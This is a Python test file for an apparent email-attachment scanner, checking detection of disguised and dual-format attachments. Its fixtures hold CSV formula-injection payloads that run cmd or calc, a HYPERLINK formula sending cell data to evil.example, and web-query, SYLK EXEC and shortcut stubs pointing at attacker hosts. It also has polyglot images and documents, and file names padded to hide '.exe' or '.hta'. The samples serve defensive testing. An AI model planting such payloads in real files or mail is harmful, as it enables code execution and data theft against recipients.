"""Files that are another thing than they are called, or two things at once; what tables would run."""

from __future__ import annotations

import gzip

import pytest
from attachment_forms import PDF, PNG, ace, arj, lha, word
from attachment_making import document, zipped

from tocsin.formats.syntax.attachments import look
from tocsin.model.message import Attachment

ZIP = zipped({"a.js": b"x"})


def seen(data: bytes, name: str = "x", declared: str = "") -> Attachment:
    return look(name, declared, data, inline=False, passwords=())


@pytest.mark.parametrize(
    "cells",
    [
        b"a,b\n1,=cmd|'/c calc'!A1\n",
        b"@SUM(1+1)*cmd|' /C calc'!A0\n",
        b"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''\n",
        b"1;\"+cmd|'/c calc'!A1\"\n",
        b"-2+3+cmd|'/c calc'!D2\n",
    ],
    ids=word,
)
def test_a_table_that_asks_a_program(cells: bytes):
    assert "dde" in seen(cells, "a.csv").traits


def test_a_text_that_asks_a_program():
    assert "dde" in seen(b"=cmd|'/c calc'!A1\n", "a.txt").traits


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"name;note\nA|B;well done!\n-;x|'y'!\n", "a.csv"),
        (b"+ if (a|'b'!c)\n- x = a|'b'!c\n", "a.txt"),
        (b"=1+1;=SUM(A1:A3)\n", "a.csv"),
        (b"site;https://contoso.example/\n", "a.csv"),
        (b"Type =HYPERLINK into a cell\n", "a.txt"),
    ],
    ids=word,
)
def test_an_ordinary_table(data: bytes, name: str):
    assert {"dde", "uri", "external-link"}.isdisjoint(seen(data, name).traits)


def test_a_table_that_leads_on():
    found = seen(b'1;"=HYPERLINK(""https://evil.example/?""&A1;""Error"")"\n', "a.csv")
    assert {"uri"} == set(found.traits) - {"named-office"}
    assert found.leads == ("evil.example",)
    assert "external-link" in seen(b'=WEBSERVICE("https://evil.example/")', "a.csv").traits


def test_a_query_under_another_name():
    found = seen(b"WEB\r\n1\r\nhttps://evil.example/q.txt\r\n\r\nSelection=1\r\n", "prices.csv")
    assert (found.kind, found.leads) == ("script", ("evil.example",))
    assert "mismatch" in found.traits


def test_symbolic_links_under_another_name():
    body = b'ID;PWXL;N;E\r\nP;PGeneral\r\nO;E\r\nC;X1;Y1;K0;EEXEC("calc.exe")\r\nE\r\n'
    found = seen(body, "prices.csv")
    assert found.kind == "script"
    assert {"mismatch", "macro"} <= set(found.traits)


def test_a_table_whose_first_column_is_called_id():
    found = seen(b"ID;Product;Price\n1;Paper;2\n", "prices.csv")
    assert (found.kind, found.traits) == ("text", ("named-office",))


@pytest.mark.parametrize(
    ("data", "kind", "leads"),
    [
        ("full address:s:rdp.evil.example:3389\r\n".encode("utf-16"), "shortcut", "rdp.evil.example"),
        (b"screen mode id:i:2\r\nfull address:s:198.51.100.7\r\n", "shortcut", "198.51.100.7"),
        (b"; x\r\n[InternetShortcut]\r\nURL=https://evil.example/x\r\n", "shortcut", "evil.example"),
        ((b"<?xml version='1.0'?>\n<libraryDescription xmlns='http://schemas.microsoft.com/windows/2009/library'>"
         b"<url>\\\\198.51.100.7@80\\a\\b</url>"), "shortcut", "198.51.100.7"),
        (b"<?xml version='1.0'?><searchConnectorDescription><url>https://evil.example/</url>", "shortcut", "evil.example"),
        (b"<?xml version='1.0'?><persistedQuery version='1.0'><include path='\\\\198.51.100.7\\x'/>", "shortcut", "198.51.100.7"),
        (b"<PCSettings><SearchableContent><DeepLink>cmd.exe</DeepLink>", "shortcut", ""),
        (b"<?xml version='1.0'?><AppInstaller Uri='https://evil.example/a.appinstaller'>", "shortcut", "evil.example"),
        ((b"<?xml version='1.0'?><asmv1:assembly xmlns:asmv1='urn:a'><deployment/><deploymentProvider "
         b"codebase='https://evil.example/a.application'/>"), "shortcut", "evil.example"),
        (b"<?xml version='1.0'?><jnlp codebase='https://evil.example/'>", "shortcut", "evil.example"),
        (b"<Configuration><LogonCommand><Command>calc</Command>", "script", ""),
        (b"[Theme]\r\nBrandImage=\\\\198.51.100.7\\a\\b.png\r\n", "shortcut", "198.51.100.7"),
        ("https://evil.example/a.application#a.application, Culture=neutral".encode("utf-16"), "shortcut", "evil.example"),
        (b"<?xml version='1.0'?><MMC_ConsoleFile ConsoleVersion='3.0'>", "script", ""),
        (b"<?xml version='1.0'?><xsl:stylesheet><msxsl:script language='JScript'>", "script", ""),
        (b"#@~^AAAAAA==", "script", ""),
    ],
    ids=word,
)  # fmt: skip
def test_what_starts_something_by_its_first_lines(data: bytes, kind: str, leads: str):
    found = seen(data, "notes.txt")
    assert (found.kind, found.leads) == (kind, (leads,) if leads else ())


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (b"<?xml version='1.0'?><configuration><appSettings/></configuration>", "xml"),
        (b"<?xml version='1.0'?><contact><name>A</name></contact>", "xml"),
        (b"<?xml version='1.0'?><xsl:stylesheet version='1.0'/>", "xml"),
        (b"WEB\nsites of ours\n", "text"),
        (b"The full address is below.\nfull address: 1 Main Street\n", "text"),
    ],
    ids=word,
)
def test_ordinary_texts(data: bytes, kind: str):
    assert seen(data, "notes").kind == kind


@pytest.mark.parametrize(
    "name",
    ["a.wsb", "a.themepack", "a.udl", "a.rdp", "a.settingcontent-ms", "a.appinstaller", "a.application",
     "a.jnlp", "a.searchConnector-ms", "a.search-ms", "a.website", "a.contact", "a.diagcab", "a.appref-ms",
     "a.xll", "a.chm", "a.hta", "a.cpl", "a.gadget", "a.theme"],
)  # fmt: skip
def test_names_that_start_something(name: str):
    assert "risky-inside" in seen(zipped({name: b"x"})).traits


@pytest.mark.parametrize(
    ("data", "name", "inside"),
    [
        (PDF + ZIP, "a.pdf", ("a.js",)),
        (PNG + ZIP, "a.png", ("a.js",)),
        (PNG + b"Rar!\x1a\x07\x01\x00", "a.png", ()),
        (PDF + b"Rar!\x1a\x07\x00", "a.pdf", ()),
        (PNG + b"<html><script>alert(1)</script>", "a.png", ()),
        (PDF + b"<html><body onload=x>", "a.pdf", ()),
        (b"GIF89a/*" + bytes(20) + b"<script>*/x", "a.gif", ()),
        (b"%PDF-1.7\n1 0 obj<<>>endobj\nMIME-Version: 1.0\nContent-Type: multipart/related; boundary=q\n\n--q", "a.doc", ()),
        (zipped({"b.txt": b"x"}) + ZIP, "a.zip", ("a.js", "b.txt")),
        (b"some words in front" + ZIP, "a.zip", ("a.js",)),
        (b"<html>hello</html>" + ZIP, "a.html", ("a.js",)),
    ],
    ids=word,
)  # fmt: skip
def test_two_things_at_once(data: bytes, name: str, inside: tuple[str, ...]):
    found = seen(data, name)
    assert "polyglot" in found.traits
    assert found.inside == inside


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (PNG, "a.png"),
        (PNG + bytes(500), "a.png"),
        (PDF, "a.pdf"),
        (PDF + PDF, "a.pdf"),  # written further at its end, as the format has it
        (PDF[:-6] + b"2 0 obj<</Type/EmbeddedFile>>stream\n" + ZIP + b"\nendstream endobj\n%%EOF\n", "a.pdf"),
        (PNG[:-8] + b"<x:xmpmeta xmlns:x='adobe:ns:meta/'/>" + PNG[-8:], "a.png"),
        (ZIP, "a.zip"),
        (zipped({"a.zip": ZIP}), "a.zip"),
        (document(), "a.docx"),
        (b"MZ" + bytes(100) + ZIP, "setup.exe"),
    ],
    ids=word,
)  # fmt: skip
def test_one_thing_only(data: bytes, name: str):
    assert "polyglot" not in seen(data, name).traits


@pytest.mark.parametrize(
    ("declared", "data", "expected"),
    [
        ("image/png", ZIP, True),
        ("application/pdf", b"<html><script>x</script>", True),
        ("text/plain", b"MZ\x90", True),
        ("image/png", b"\xff\xd8\xff\xe0", False),
        ("application/octet-stream", ZIP, False),
        ("text/plain", gzip.compress(b"x"), False),
    ],
    ids=word,
)
def test_what_the_mail_calls_it(declared: str, data: bytes, *, expected: bool):
    assert ("mismatch" in seen(data, "a", declared).traits) is expected


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("invoice.pdf" + "\u2800" * 10 + ".hta", True),
        ("invoice" + " " * 40 + ".exe", True),
        ("invoice.pdf\u200b.exe", True),
        ("invoice.pdf.exe. .", True),
        ("my setup tool.exe", False),
        ("report" + " " * 40 + ".pdf", False),
    ],
    ids=word,
)
def test_names_pushed_out_of_sight(name: str, *, expected: bool):
    found = seen(zipped({name: b"MZ"}))
    assert ("double-extension" in found.traits) is expected


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (lha("d.exe"), "a.lzh", "lzh"),
        (arj("d.exe"), "a.arj", "arj"),
        (ace("d.exe"), "a.ace", "ace"),
        (b"begin 644 d.exe\n#35J0\n`\nend\n", "a.uue", "uue"),
        (b"begin-base64 644 d.exe\nTVqQ\n====\n", "a.uue", "uue"),
        (b"\x1f\x9d\x90abc", "d.exe.Z", "z"),
        (b"\x28\xb5\x2f\xfdabc", "d.exe.zst", "zstd"),
        (b"\x1f\x8b\x08\x08" + bytes(6) + b"d.exe\0" + gzip.compress(b"x", mtime=0)[10:], "a.pdf.gz", "gz"),
    ],
    ids=word,
)  # fmt: skip
def test_archives_of_old_forms_give_their_names(data: bytes, name: str, kind: str):
    found = seen(data, name)
    assert (found.kind, found.inside) == (kind, ("d.exe",))
    assert "risky-inside" in found.traits


def test_a_program_in_gzip():
    assert "risky-inside" in seen(gzip.compress(b"MZ\x90"), "report.gz").traits
    assert seen(gzip.compress(b"words"), "report.log.gz").traits == ("named-archive",)
